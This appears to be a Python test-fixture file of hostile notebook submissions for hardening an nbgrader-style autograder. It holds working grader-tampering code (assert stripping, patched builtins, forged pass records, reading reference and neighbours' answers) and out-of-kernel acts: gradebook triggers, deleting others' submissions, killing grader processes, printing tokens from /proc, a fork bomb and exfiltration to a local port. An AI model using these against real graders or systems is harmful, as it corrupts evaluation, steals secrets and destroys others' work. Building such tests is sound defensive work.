"""Hostile, broken and unusual hand-ins, each with the mark that a fair marker gives.

What is fair follows from the answers alone: an exercise is worth its points if the student wrote a
right answer to it. Every act is bounded and aimed at the class's own folders and processes, so that
it can be tried on a grader without walls. @MARK@ and the like are filled in by `hand_in`.
"""

import copy
import os
from collections.abc import Callable
from dataclasses import dataclass, field

import nbformat
from room import POINTS

RIGHT = {
    "double": "def double(x):\n    return 2 * x\n",
    "square": "def square(x):\n    return x**2\n",
}
WRONG = {name: f"def {name}(x):\n    return 0 * x\n" for name in POINTS}


@dataclass
class HandIn:
    """One submission. fair: the exercises that deserve their points.

    exact: the answers stand apart from what else was done, so nothing but `fair` will do; else
    the student tampered with the grading, and a look by hand instead of points is fair, too.
    walled: its act reaches beyond its own kernel, which only a sandbox can stop.
    """

    name: str
    fair: tuple = ()
    answers: dict = field(default_factory=dict)
    edit: Callable | None = None  # of the notebook
    files: Callable | None = None  # of the folder, after the notebook was written
    notebook: str = "demo"
    exact: bool = False
    walled: bool = False


def hand_in(room, case, port=0):
    """Put a hand-in into the course of a room, as student case.name."""
    folder = room.place(case.name, case.notebook)
    notebook = room.released(case.notebook)
    known = {
        "MARK": room.mark, "COURSE": room.course, "LIBRARY": room.checkout / "dvae_lib",
        "HOME": room.home, "PORT": port,
    }  # fmt: skip
    for cell in notebook.cells:
        if (name := grade_id(cell)) in case.answers:
            cell.source = case.answers[name]
    if case.edit:
        case.edit(notebook)
    for cell in notebook.cells:
        for word, value in known.items():
            if isinstance(cell, dict) and isinstance(cell.get("source"), str):
                cell.source = cell.source.replace(f"@{word}@", str(value))
    path = folder / f"{case.notebook}.ipynb"
    path.write_text(nbformat.v4.writes(notebook))
    if case.files:
        case.files(folder, room)


def grade_id(cell):
    return cell.metadata.get("nbgrader", {}).get("grade_id")


def find(notebook, name):
    return next(k for k, cell in enumerate(notebook.cells) if grade_id(cell) == name)


# Code in the first answer cell, above two wrong answers: nobody deserves a point.

ATTACKS = {}

ATTACKS["asserts_dropped_from_the_tree"] = """
import ast
class Drop(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)
get_ipython().ast_transformers.append(Drop())
"""
ATTACKS["cells_emptied_by_a_cleanup_transform"] = """
get_ipython().input_transformers_cleanup.append(lambda lines: [])
"""
ATTACKS["asserts_dropped_from_the_text"] = """
get_ipython().input_transformers_post.append(
    lambda lines: [line for line in lines if not line.startswith("assert")])
"""
ATTACKS["hook_reads_the_check_and_answers_it"] = """
import re
table = {}
def read(info):
    table.update(re.findall(r"(\\w+\\([-\\d.]+\\)) == ([-\\d.]+)", info.raw_cell))
get_ipython().events.register("pre_run_cell", read)
##
def double(x):
    return float(table.get(f"double({x})", 0))
def square(x):
    return float(table.get(f"square({x})", 9))
"""
ATTACKS["hook_clears_the_errors"] = """
from IPython.display import clear_output
get_ipython().events.register("post_execute", lambda: clear_output())
get_ipython().events.register("post_run_cell", lambda result: clear_output())
"""
ATTACKS["errors_handled_by_a_custom_handler"] = """
get_ipython().set_custom_exc((Exception,), lambda self, kind, value, tb, tb_offset=None: None)
"""
ATTACKS["shell_shows_no_traceback"] = """
from IPython.core.interactiveshell import InteractiveShell
type(get_ipython()).showtraceback = lambda *a, **k: None
InteractiveShell.showtraceback = lambda *a, **k: None
get_ipython()._showtraceback = lambda *a, **k: None
"""
ATTACKS["shell_runs_nothing"] = """
from IPython.core.interactiveshell import InteractiveShell
async def nothing(*a, **k):
    return False
InteractiveShell.run_code = nothing
"""
ATTACKS["shell_runs_cells_without_asserts"] = """
shell = get_ipython()
run = shell.run_cell_async
async def cleaned(raw, *a, **k):
    k["transformed_cell"] = None
    return await run("\\n".join(x for x in raw.split("\\n") if "assert" not in x), *a, **k)
shell.run_cell_async = cleaned
"""
ATTACKS["kernel_always_replies_ok"] = """
kernel = get_ipython().kernel
async def do_execute(*a, **k):
    return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
kernel.do_execute = do_execute
"""
ATTACKS["session_drops_error_messages"] = """
session = get_ipython().kernel.session
send = session.send
def kind(stream, message, content=None, *a, **k):
    if message == "error":
        return {}
    if isinstance(content, dict) and content.get("status") == "error":
        content = {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
    return send(stream, message, content, *a, **k)
session.send = kind
"""
ATTACKS["compiler_without_asserts"] = """
import ast
compiler = get_ipython().compile
parse = type(compiler).ast_parse
def without(self, source, *a, **k):
    tree = parse(self, source, *a, **k)
    tree.body = [node for node in tree.body if not isinstance(node, ast.Assert)]
    return tree
type(compiler).ast_parse = without
type(compiler).__call__ = lambda self, tree, *a, **k: compile(tree, *a, optimize=1, **k)
"""
ATTACKS["tracer_jumps_over_the_asserts"] = """
import sys
def trace(frame, event, arg):
    if frame.f_code.co_name == "<module>" and "check" not in frame.f_code.co_filename:
        frame.f_trace_lines = True
        return jump
def jump(frame, event, arg):
    if event == "line":
        lines = [line for _, _, line in frame.f_code.co_lines() if line]
        if frame.f_lineno not in (lines[0], max(lines)) and len(set(lines)) > 3:
            try:
                frame.f_lineno = max(lines)
            except ValueError:
                pass
    return jump
sys.settrace(trace)
"""
ATTACKS["builtins_patched"] = """
import builtins
builtins.all = lambda values: True
builtins.abs = lambda value: 0
builtins.isinstance = lambda a, b: True
"""
ATTACKS["builtin_names_shadowed"] = """
all = lambda values: True
abs = lambda value: 0
"""
ATTACKS["own_builtins_in_the_namespace"] = """
import builtins
globals()["__builtins__"] = dict(vars(builtins), all=lambda v: True, abs=lambda v: 0)
"""
ATTACKS["import_hook_gives_a_false_library"] = """
import builtins, types
real = builtins.__import__
nothing = lambda *a: None
fake = types.SimpleNamespace(own_work=nothing, passed=nothing, go_on=nothing)
def hooked(name, *a, **k):
    return types.SimpleNamespace(exercises=fake) if name == "dvae_lib" else real(name, *a, **k)
builtins.__import__ = hooked
"""
ATTACKS["module_swapped"] = """
import sys, types
fake = types.ModuleType("dvae_lib.exercises")
for name in ("own_work", "passed", "go_on"):
    setattr(fake, name, lambda *a: None)
import dvae_lib
sys.modules["dvae_lib.exercises"] = dvae_lib.exercises = fake
"""
ATTACKS["finder_before_all_others"] = """
import sys, importlib.util
class Finder:
    def find_spec(self, name, path=None, target=None):
        if name.startswith("dvae_lib"):
            return importlib.util.spec_from_loader(name, self, is_package=True)
    def create_module(self, spec):
        return None
    def exec_module(self, module):
        for name in ("own_work", "passed", "go_on"):
            setattr(module, name, lambda *a: None)
sys.meta_path.insert(0, Finder())
for name in [n for n in sys.modules if n.startswith("dvae_lib")]:
    del sys.modules[name]
"""
ATTACKS["library_function_with_other_code"] = """
from dvae_lib import exercises
def give(notebook, exercise, namespace):
    from dvae_lib import exercises
    exec(exercises.reference(notebook, exercise), namespace)
exercises.own_work.__code__ = give.__code__
"""
ATTACKS["note_of_passing_forged"] = """
from dvae_lib import exercises
exercises._passed |= {"double", "square"}
exercises._passed.discard = lambda name: None if False else None
"""
ATTACKS["passed_returns_points"] = """
from dvae_lib import exercises
exercises.passed = lambda name: 1.0
exercises.own_work = lambda *a: get_ipython().displayhook(1.0)
"""
ATTACKS["reference_executed"] = """
from dvae_lib import exercises
for name in ("double", "square"):
    exec(exercises.reference("demo", name))
answers = double, square
del globals()["double"], globals()["square"]
##
double, square = answers
"""
ATTACKS["reference_unpacked_by_hand"] = """
import base64, json, zlib
text = open("demo.reference").read()
answers = json.loads(zlib.decompress(base64.b85decode(text)))
##
exec(answers["double"])
exec(answers["square"])
"""
ATTACKS["source_above_the_folder"] = """
import json
from pathlib import Path
places = [Path("../../../source/demo/demo.ipynb"), Path("../../source/demo/demo.ipynb"),
          Path("@COURSE@/source/demo/demo.ipynb")]
places += Path("/tmp").glob("tmp*/source/demo/demo.ipynb")
answers = {}
for place in places:
    if place.exists():
        for cell in json.loads(place.read_text())["cells"]:
            about = cell["metadata"].get("nbgrader", {})
            if about.get("solution"):
                answers[about["grade_id"]] = "".join(cell["source"])
##
exec(answers["double"])
exec(answers["square"])
"""
ATTACKS["neighbours_answers"] = """
import json
from pathlib import Path
answers = {}
for place in Path("@COURSE@/submitted").glob("*honest*/demo/demo.ipynb"):
    for cell in json.loads(place.read_text())["cells"]:
        about = cell["metadata"].get("nbgrader", {})
        if about.get("solution"):
            answers[about["grade_id"]] = "".join(cell["source"])
##
exec(answers["double"])
exec(answers["square"])
"""
ATTACKS["thread_patches_later"] = """
import threading, time
def later():
    import ast, builtins
    from dvae_lib import exercises
    class Drop(ast.NodeTransformer):
        def visit_Assert(self, node):
            return ast.copy_location(ast.Pass(), node)
    end = time.time() + 30
    while time.time() < end:
        time.sleep(0.002)
        get_ipython().ast_transformers[:] = [Drop()]
        exercises.own_work = exercises.passed
threading.Thread(target=later, daemon=True).start()
"""
ATTACKS["thread_clears_errors_later"] = """
import threading, time
shell = get_ipython()
def later():
    for _ in range(2000):
        shell.kernel.session.send(shell.kernel.iopub_socket, "clear_output", {"wait": False},
                                  parent=shell.parent_header)
        time.sleep(0.01)
threading.Thread(target=later, daemon=True).start()
"""
ATTACKS["garbage_collector_hands_out_the_checks"] = """
import gc
def secrets():
    return [o for o in gc.get_objects() if isinstance(o, dict) and "hidden" in repr(o)[:10000]]
found = secrets()
"""
ATTACKS["exit_hook_writes_marks"] = """
import atexit, os
def write():
    for folder, _, names in os.walk("@COURSE@"):
        if "honest" in folder or "feedback" in folder:
            for name in names:
                open(os.path.join(folder, name), "a").write("@MARK@")
atexit.register(write)
"""
ATTACKS["shell_extension_of_next_cells"] = """
get_ipython().run_cell("%pdb on")
get_ipython().set_next_input("assert True", replace=True)
"""
ATTACKS["history_of_inputs_rewritten"] = """
shell = get_ipython()
for name in ("In", "_ih", "_i", "_oh"):
    shell.user_ns[name] = ["assert True"] * 100
shell.history_manager.enabled = False
"""
ATTACKS["bytecode_optimised"] = """
import sys, builtins
real = builtins.compile
builtins.compile = lambda *a, **k: real(*a, **(k | {"optimize": 2}))
get_ipython().compile.flags |= 0
sys.flags = type("flags", (), {"optimize": 2})
"""
ATTACKS["float_compares_as_equal"] = """
class Any(float):
    __eq__ = lambda self, other: True
    __abs__ = __sub__ = __mul__ = __rmul__ = lambda self, *other: Any(0)
    __lt__ = __eq__
    __hash__ = float.__hash__
import builtins
builtins.int = builtins.float = Any
"""
ATTACKS["small_numbers_rewritten_in_memory"] = """
import ctypes
for number in (6, 9):
    ctypes.memmove(id(number) + 24, id(0) + 24, 4)
    ctypes.memmove(id(number) + 16, id(0) + 16, 8)
"""
ATTACKS["prints_that_it_passed"] = """
print("double: passed"); print("square: passed")
print('{"double": 1.0, "square": 3.0, "points": 4}')
"""
ATTACKS["other_kernels_are_told_to_stop"] = """
import glob, json, os
from jupyter_client import BlockingKernelClient
from jupyter_core.paths import jupyter_runtime_dir
places = glob.glob(jupyter_runtime_dir() + "/*.json") + glob.glob("@HOME@/**/kernel-*.json")
own = open("/proc/self/cmdline").read()
for place in places + glob.glob("@HOME@/.local/share/jupyter/runtime/*.json"):
    if place.startswith("@HOME@") and place not in own:
        client = BlockingKernelClient(connection_file=place)
        client.load_connection_file()
        client.start_channels()
        client.execute("def double(x): return -1\\nimport os; os._exit(3)")
        client.stop_channels()
"""
TORCH_ATTACKS = {
    "torch_patched": """
import torch
torch.allclose = torch.equal = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
torch.Tensor.all = torch.Tensor.__eq__ = lambda *a, **k: torch.ones(2, dtype=torch.bool)
""",
    "torch_name_shadowed": """
import types
torch = types.SimpleNamespace(allclose=lambda *a: True, equal=lambda *a: True, ones=lambda n: 1,
    tensor=lambda v: 1, testing=types.SimpleNamespace(assert_close=lambda *a: None))
""",
    "tensors_that_compare_as_equal": """
import torch
class Yes(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        if function.__name__ in ("allclose", "equal", "isclose"):
            return True
        return torch.ones((), dtype=torch.bool)
##
def double(x):
    return torch.zeros(2).as_subclass(Yes)
def square(x):
    return torch.zeros(2).as_subclass(Yes)
""",
    "operators_patched_from_inside": """
import torch
##
def double(x):
    torch.allclose = torch.equal = lambda *a, **k: True
    torch.testing.assert_close = lambda *a, **k: None
    return x
def square(x):
    return x
""",
    "torch_function_mode_left_on": """
import torch
from torch.overrides import TorchFunctionMode
class Yes(TorchFunctionMode):
    def __torch_function__(self, function, types, args=(), kwargs=None):
        if getattr(function, "__name__", "") in ("allclose", "equal"):
            return True
        return function(*args, **(kwargs or {}))
mode = Yes()
mode.__enter__()
""",
    "torch_default_tolerances": """
import torch
from torch.testing import _comparison
for key in _comparison._DTYPE_PRECISIONS:
    _comparison._DTYPE_PRECISIONS[key] = (1e9, 1e9)
""",
}

# Answers that act when the check calls them: {name: (double, square)}; None is a right answer.

CALLED = {
    "equal_to_everything": """
class Yes(int):
    __eq__ = lambda self, other: True
    __abs__ = __sub__ = __lt__ = lambda self, *other: Yes(1)
    __hash__ = int.__hash__
def double(x):
    return Yes(0)
def square(x):
    return Yes(0)
""",
    "shows_a_result_of_its_own": """
def double(x):
    get_ipython().displayhook(1.0)
    return 0
def square(x):
    get_ipython().displayhook(3.0)
    return 0
""",
    "error_without_a_name": """
class Nameless(type):
    @property
    def __name__(self):
        raise ValueError("no name")
class Silent(Exception, metaclass=Nameless):
    def _render_traceback_(self):
        raise ValueError("no text")
def double(x):
    raise Silent
def square(x):
    raise Silent
""",
    "system_exit": """
import sys
def double(x):
    sys.exit(0)
def square(x):
    raise SystemExit
""",
    "keyboard_interrupt": """
def double(x):
    raise KeyboardInterrupt
def square(x):
    raise GeneratorExit
""",
    "exits_the_kernel_politely": """
def double(x):
    exit()
    return 0
def square(x):
    exit()
    return 0
""",
    "debugger_quits": """
import bdb
def double(x):
    raise bdb.BdbQuit
def square(x):
    raise bdb.BdbQuit
""",
    "jumps_out_of_the_check": """
import sys
def jump(frame, event, arg):
    if event == "line":
        frame.f_lineno = max(line for _, _, line in frame.f_code.co_lines() if line)
        frame.f_trace = None
    return jump
def out(x):
    frame = sys._getframe()
    while frame and frame.f_code.co_name != "<module>":
        frame = frame.f_back
    sys.settrace(lambda *a: None)
    frame.f_trace = jump
    return x
double = square = out
""",
    "reads_the_check_in_the_frames": """
import re, sys
def look(name, x):
    frame, text = sys._getframe(), ""
    while frame:
        text += repr(frame.f_locals.get("raw_cell", "")) + repr(frame.f_locals.get("cell", ""))
        text += repr(frame.f_globals.get("In", ""))
        frame = frame.f_back
    for found in re.finditer(name + r"\\(([-\\d.]+)\\) (?:==|-) ([-\\d.]+)", text):
        if float(found[1]) == x:
            return float(found[2])
    return 0
def double(x):
    return look("double", x)
def square(x):
    return look("square", x)
""",
    "prints_all_strings_of_the_check": """
import re, sys
def out(x):
    frame = sys._getframe()
    while frame:
        for text in [frame.f_locals.get("raw_cell"), *map(str, frame.f_code.co_consts)]:
            for word in re.findall(r"[\\w:.-]{6,}", str(text)):
                print(word)
        frame = frame.f_back
    raise SystemExit
double = square = out
""",
    "check_variables_rewritten": """
import sys
def out(x):
    space = sys._getframe(1).f_globals
    space["exercises"].passed("double"); space["exercises"].passed("square")
    space["abs"] = lambda v: 0
    space["all"] = lambda v: True
    return x
double = square = out
""",
    "installs_a_transformer_when_called": """
import ast
class Drop(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)
def double(x):
    get_ipython().ast_transformers.append(Drop())
    return 0
def square(x):
    return 0
""",
    "library_answers_for_it": """
from dvae_lib import exercises
space = {}
def double(x):
    exec(getattr(exercises, "refer" + "ence")("demo", "double"), space)
    return space["double"](x)
def square(x):
    exec(getattr(exercises, "refer" + "ence")("demo", "square"), space)
    return space["square"](x)
""",
    "goes_on_with_the_reference": """
from dvae_lib import exercises
exercises.go_on("demo", "double", globals())
exercises.go_on("demo", "square", globals())
""",
    "float_on_the_last_line_of_passed": """
def double(x):
    from dvae_lib import exercises
    exercises.passed = lambda name: 1998.0
    return 0
def square(x):
    return 0
""",
}


OUTSIDE = {
    "exit_hook_writes_marks", "other_kernels_are_told_to_stop", "source_above_the_folder",
    "neighbours_answers",
}  # fmt: skip


def _attack(name, code, notebook="demo"):
    own, divider, answers = code.partition("##\n")
    if divider:
        cells = {"double": own + answers, "square": "square = square"}
    else:
        cells = {"double": code + WRONG["double"], "square": WRONG["square"]}
    return HandIn(name, answers=cells, notebook=notebook, walled=name in OUTSIDE)


def _called(name, code):
    return HandIn(name, answers={"double": code, "square": "square = square"})


HAND_INS = [_attack(*item) for item in ATTACKS.items()]
HAND_INS += [_attack(*item, notebook="tensors") for item in TORCH_ATTACKS.items()]
HAND_INS += [_called(*item) for item in CALLED.items()]


def case(name, fair=(), double="", square="", **more):
    """A hand-in with code before answers that are right where it is fair, and wrong elsewhere."""
    answers = {}
    for exercise, code in (("double", double), ("square", square)):
        answer = (RIGHT if exercise in fair else WRONG)[exercise]
        own = any(f"{kind} {exercise}" in code for kind in ("def", "class"))
        answers[exercise] = code if own else code + answer
    HAND_INS.append(HandIn(name, fair, answers, **more))


BOTH = ("double", "square")

# Acts beyond the kernel: with wrong answers. Only walls stop them.

ACTS = {
    "trigger_in_the_gradebook": """
import glob, sqlite3
for place in ["@COURSE@/gradebook.db", *glob.glob("../../../gradebook.db")]:
    book = sqlite3.connect(place)
    for event in ("INSERT", "UPDATE"):
        book.execute(f"CREATE TRIGGER IF NOT EXISTS t{event} AFTER {event} ON grade BEGIN "
                     "UPDATE grade SET auto_score = 999; END")
    book.commit()
""",
    "library_edited_in_place": """
for name in ("exercises.py", "__init__.py", "classroom.py"):
    with open("@LIBRARY@/" + name, "a") as file:
        file.write("\\nown_work = passed = go_on = lambda *a: 1 / 0  # @MARK@\\n")
""",
    "library_edited_through_its_module": """
import dvae_lib
place = dvae_lib.__path__[0]
if place.startswith("@LIBRARY@"):
    open(place + "/exercises.py", "a").write("\\nraise OSError  # @MARK@\\n")
""",
    "bytecode_of_the_library": """
import importlib.util, os
place = importlib.util.cache_from_source("@LIBRARY@/exercises.py")
os.makedirs(os.path.dirname(place), exist_ok=True)
open(place, "ab").write(b"@MARK@")
open("@LIBRARY@/torch.py", "w").write("raise OSError  # @MARK@")
""",
    "startup_file_at_home": """
import os
for home in ("@HOME@", os.path.expanduser("~")):
    if home.startswith("@HOME@"):
        os.makedirs(home + "/.ipython/profile_default/startup", exist_ok=True)
        open(home + "/.ipython/profile_default/startup/0.py", "w").write("raise OSError  # @MARK@")
""",
    "neighbours_overwritten": """
from pathlib import Path
for place in Path("@COURSE@").glob("submitted/*honest*/demo/demo.ipynb"):
    place.write_text("@MARK@")
""",
    "neighbours_deleted": """
import shutil
from pathlib import Path
for kind in ("submitted", "autograded", "feedback"):
    for place in Path("@COURSE@").glob(kind + "/*honest*"):
        shutil.rmtree(place)
""",
    "grades_written": """
open("@COURSE@/grades.csv", "w").write("grades_written,demo,1,3,4,4,@MARK@")
""",
    "source_and_release_edited": """
from pathlib import Path
for kind in ("source", "release"):
    for place in Path("@COURSE@", kind).glob("*/*"):
        place.write_text("@MARK@")
""",
    "configuration_edited": """
open("@COURSE@/nbgrader_config.py", "a").write("\\nopen('/tmp/@MARK@', 'w')\\n")
""",
    "other_gradings_in_the_temporary_folder": """
import os, glob
for place in glob.glob(os.environ.get("TMPDIR", "/tmp") + "/tmp*/**/*.ipynb", recursive=True):
    if "acts_" not in place and "@HOME@".removesuffix("home") in place:
        open(place, "w").write("@MARK@")
""",
    "files_left_in_shared_places": """
for place in ("/tmp", "/var/tmp", "/dev/shm", "@HOME@"):
    open(place + "/left-@MARK@", "w").write("@MARK@")
""",
    "parent_killed": """
import os, signal
if b"@MARK@" in open(f"/proc/{os.getppid()}/environ", "rb").read():
    os.kill(os.getppid(), signal.SIGKILL)
""",
    "grader_killed_by_its_mark": """
import os, signal
for number in filter(str.isdigit, os.listdir("/proc")):
    try:
        if b"@MARK@" in open(f"/proc/{number}/environ", "rb").read() and int(number) != os.getpid():
            os.kill(int(number), signal.SIGKILL)
    except OSError:
        pass
""",
    "environment_of_the_parents_printed": """
import os
for number in filter(str.isdigit, os.listdir("/proc")):
    try:
        print([x for x in open(f"/proc/{number}/environ").read().split("\\0") if "TOKEN" in x])
    except OSError:
        pass
""",
    "home_printed": """
import os
print(os.environ.get("LECTURERS_TOKEN"))
for home in ("@HOME@", os.path.expanduser("~")):
    if os.path.exists(home + "/secret.txt"):
        print(open(home + "/secret.txt").read())
""",
    "network": """
import socket
socket.create_connection(("127.0.0.1", @PORT@), timeout=2).send(b"the hidden tests")
""",
}
for _name, _code in ACTS.items():
    case(f"acts_{_name}", (), f"try:\n{_code.replace(chr(10), chr(10) + '    ')}\nexcept Exception "
         "as error:\n    print(type(error))\n", walled=True)  # fmt: skip

# Processes, memory and time: what the other exercise, or the answer beside the act, deserves.

SLEEP = "['sh', '-c', 'sleep 120; : @MARK@']"
STARTS = f"from subprocess import Popen\nPopen({SLEEP}, start_new_session=True)\n"
case("background_process", BOTH, STARTS, exact=True, walled=True)
case("fifty_background_processes", BOTH, STARTS + f"for _ in range(49): Popen({SLEEP})\n",
     exact=True, walled=True)  # fmt: skip
case("daemon_that_ignores_signals", BOTH, """
import os, signal
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
            signal.signal(number, signal.SIG_IGN)
        os.execv("/bin/sh", ["sh", "-c", "trap '' TERM INT HUP; sleep 120; : @MARK@"])
    os._exit(0)
""", walled=True)  # fmt: skip
case("fork_bomb", ("square",), """
import os, time
def double(x):
    for _ in range(9):
        try:
            os.fork()
        except OSError:
            pass
    os.execv("/bin/sh", ["sh", "-c", "sleep 120; : @MARK@"])
""", walled=True)  # fmt: skip
case("memory_hog", ("square",), """
def double(x):
    kept = [bytes(1 << 20) + b"x" for _ in range(6_000)]
    return 0
""", exact=True)  # fmt: skip
case("memory_hog_in_a_child", ("square",), """
import os
def double(x):
    if os.fork() == 0:
        kept = [b"x" * (1 << 20) for _ in range(6_000)]
        os._exit(0)
    os.wait()
    return 0
""", exact=True)  # fmt: skip
case("endless_loop", ("square",), "def double(x):\n    while True: pass\n", exact=True)
case("endless_loop_in_the_answer_cell", ("square",), "while True: pass\n", exact=True)
case("endless_loop_without_signals", ("square",), """
import signal
signal.alarm(90)
def double(x):
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    while True: pass
""", exact=True)  # fmt: skip
case("endless_loop_that_catches_all", ("square",), """
import time
def double(x):
    end = time.time() + 90
    while time.time() < end:
        try:
            while time.time() < end: pass
        except BaseException:
            pass
    return 0
""", exact=True)  # fmt: skip
case("number_without_end", ("square",), """
import signal
signal.alarm(90)
def double(x):
    return 7 ** (7 ** 11)
""", exact=True)  # fmt: skip
case("kernel_stopped", ("square",), """
import os, signal
signal.alarm(90)
def double(x):
    os.kill(os.getpid(), signal.SIGSTOP)
""", exact=True)  # fmt: skip
case("flood_of_output", ("square",), """
import time
def double(x):
    end = time.time() + 30
    while time.time() < end: print("flood " * 1000)
    return 0
""", exact=True)  # fmt: skip
case("flood_beside_right_answers", BOTH, "for _ in range(3000): print('flood ' * 1000)\n",
     exact=True)  # fmt: skip
case("kernel_ended", ("square",), "import os\ndef double(x):\n    os._exit(0)\n", exact=True)
case("kernel_ended_by_a_fault", ("square",), """
import ctypes
def double(x):
    return ctypes.string_at(0)
""", exact=True)  # fmt: skip
case("kernel_ended_in_the_last_answer", ("double",), square="import os\ndef square(x):\n"
     "    os.kill(os.getpid(), 9)\n", exact=True)  # fmt: skip
case("exit_in_the_answer_cell", ("square",), "exit()\n")
case("thread_that_never_ends", BOTH, """
import threading, time
threading.Thread(target=time.sleep, args=(120,)).start()
""", exact=True)  # fmt: skip
case("exit_hook_that_never_ends", BOTH, "import atexit, time\natexit.register(time.sleep, 120)\n",
     exact=True)  # fmt: skip
case("endless_recursion", ("square",), "def double(x):\n    return double(x)\n", exact=True)
case("disk_filled", BOTH, "open('big', 'wb').write(bytes(200_000_000))\n", walled=True)
case("many_files", BOTH, "for k in range(3000): open(f'file{k}', 'w').write('x')\n", walled=True)

# The notebook itself.


def edits(name, fair=(), answers=BOTH, exact=True, **more):
    """A decorator: the hand-in whose notebook the function changes, with `answers` right."""

    def enter(edit):
        sources = {e: (RIGHT if e in answers else WRONG)[e] for e in BOTH}
        HAND_INS.append(HandIn(name, fair, sources, edit, exact=exact, **more))
        return edit

    return enter


@edits("check_edited_and_unlocked", answers=())
def _(notebook):
    for exercise in BOTH:
        cell = notebook.cells[find(notebook, f"{exercise}_check")]
        cell.source = "assert True"
        cell.metadata.nbgrader.locked = False


@edits("check_given_no_source", answers=())
def _(notebook):
    for exercise in BOTH:
        notebook.cells[find(notebook, f"{exercise}_check")].source = ""


@edits("checks_skipped_by_tag", answers=())
def _(notebook):
    for cell in notebook.cells:
        cell.metadata["tags"] = ["skip-execution", "remove-cell", "injected-parameters"]


@edits("checks_are_text", answers=())
def _(notebook):
    for exercise in BOTH:
        at = find(notebook, f"{exercise}_check")
        cell = nbformat.v4.new_markdown_cell(notebook.cells[at].source)
        cell.metadata = notebook.cells[at].metadata
        notebook.cells[at] = cell


@edits("points_raised", BOTH)
def _(notebook):
    for exercise in BOTH:
        notebook.cells[find(notebook, f"{exercise}_check")].metadata.nbgrader.points = 100


@edits("points_of_both_swapped", ("double",), ("double",))
def _(notebook):
    for exercise, points in (("double", 3), ("square", 1)):
        notebook.cells[find(notebook, f"{exercise}_check")].metadata.nbgrader.points = points


@edits("checks_swap_their_ids", BOTH)
def _(notebook):
    one, two = (find(notebook, f"{exercise}_check") for exercise in BOTH)
    ids = [notebook.cells[k].metadata.nbgrader for k in (one, two)]
    ids[0].grade_id, ids[1].grade_id = ids[1].grade_id, ids[0].grade_id


@edits("answer_marked_as_a_check", answers=())
def _(notebook):
    for exercise in BOTH:
        about = notebook.cells[find(notebook, exercise)].metadata.nbgrader
        about.update(grade=True, solution=False, points=50)


@edits("check_of_its_own_added", BOTH)
def _(notebook):
    about = {"grade": True, "grade_id": "bonus", "locked": False, "solution": False}
    about |= {"points": 50, "schema_version": 3, "task": False}
    notebook.cells.append(nbformat.v4.new_code_cell("assert True", metadata={"nbgrader": about}))


@edits("schema_of_another_version", BOTH)
def _(notebook):
    for cell in notebook.cells:
        if "nbgrader" in cell.metadata:
            cell.metadata.nbgrader.schema_version = 1


@edits("schema_of_the_future", BOTH)
def _(notebook):
    for cell in notebook.cells:
        if "nbgrader" in cell.metadata:
            cell.metadata.nbgrader.schema_version = 99


@edits("all_metadata_lost_from_wrong_answers", answers=())
@edits("all_metadata_lost", BOTH)
def _(notebook):
    for cell in notebook.cells:
        cell.metadata = nbformat.NotebookNode()


@edits("all_metadata_lost_from_stubs", exact=True)
def _(notebook):
    for cell in notebook.cells:
        cell.metadata.pop("nbgrader", None)
        if "def " in cell.source and "x" in cell.source:
            cell.source = "raise NotImplementedError"


@edits("no_cells")
def _(notebook):
    notebook.cells = []


@edits("answers_deleted")
def _(notebook):
    notebook.cells = [cell for cell in notebook.cells if grade_id(cell) not in BOTH]


@edits("one_answer_deleted", ("double",))
def _(notebook):
    del notebook.cells[find(notebook, "square")]


@edits("checks_and_calls_deleted", ("double",), ("double",))
def _(notebook):
    notebook.cells = [cell for cell in notebook.cells if grade_id(cell) in ("double", "square")]


@edits("answer_copied_unchanged", BOTH)
def _(notebook):
    at = find(notebook, "double")
    notebook.cells.insert(at, copy.deepcopy(notebook.cells[at]))


@edits("answer_copied_the_right_one_last", BOTH)
def _(notebook):
    at = find(notebook, "double")
    first = copy.deepcopy(notebook.cells[at])
    first.source = WRONG["double"]
    notebook.cells.insert(at, first)


@edits("answer_copied_the_wrong_one_last", ("square",))
def _(notebook):
    at = find(notebook, "double")
    last = copy.deepcopy(notebook.cells[at])
    last.source = WRONG["double"]
    notebook.cells.insert(at + 1, last)


@edits("answer_copied_the_stub_last", BOTH)
def _(notebook):
    at = find(notebook, "double")
    last = copy.deepcopy(notebook.cells[at])
    last.source = "def double(x):\n    raise NotImplementedError('write your answer in this cell')"
    notebook.cells.insert(at + 1, last)


@edits("check_copied", BOTH)
def _(notebook):
    at = find(notebook, "double_check")
    notebook.cells.insert(at, copy.deepcopy(notebook.cells[at]))


@edits("check_copied_with_an_edited_last", answers=())
def _(notebook):
    for exercise in BOTH:
        at = find(notebook, f"{exercise}_check")
        notebook.cells.insert(at + 1, copy.deepcopy(notebook.cells[at]))
        notebook.cells[at + 1].source = "assert True"


@edits("parameters_edited", answers=())
def _(notebook):
    notebook.cells[0].source += (
        "\nimport ast\nclass Drop(ast.NodeTransformer):\n    def visit_Assert(self, node):\n"
        "        return ast.copy_location(ast.Pass(), node)\n"
        "get_ipython().ast_transformers.append(Drop())"
    )


@edits("parameters_in_single_quotes", BOTH)
def _(notebook):
    notebook.cells[0].source = "tier = 'classroom'\nseed = 0\ndevice = 'auto'"


@edits("attack_between_answer_and_check", answers=())
def _(notebook):
    code = ATTACKS["asserts_dropped_from_the_tree"]
    for exercise in BOTH:
        at = find(notebook, f"{exercise}_check")
        notebook.cells.insert(at, nbformat.v4.new_code_cell(code))


@edits("answer_moved_to_a_cell_of_its_own", BOTH)
def _(notebook):
    at = find(notebook, "double")
    notebook.cells.insert(at + 1, nbformat.v4.new_code_cell(notebook.cells[at].source))
    notebook.cells[at].source = "# see below"


@edits("kernel_of_another_name", BOTH)
def _(notebook):
    notebook.metadata.kernelspec = {"name": "my-conda-env", "display_name": "mine"}


@edits("no_notebook_metadata", BOTH)
def _(notebook):
    notebook.metadata = nbformat.NotebookNode()


@edits("kernel_of_another_language", BOTH)
def _(notebook):
    notebook.metadata.kernelspec = {"name": "bash", "display_name": "sh", "language": "bash"}
    notebook.metadata.language_info = {"name": "bash"}


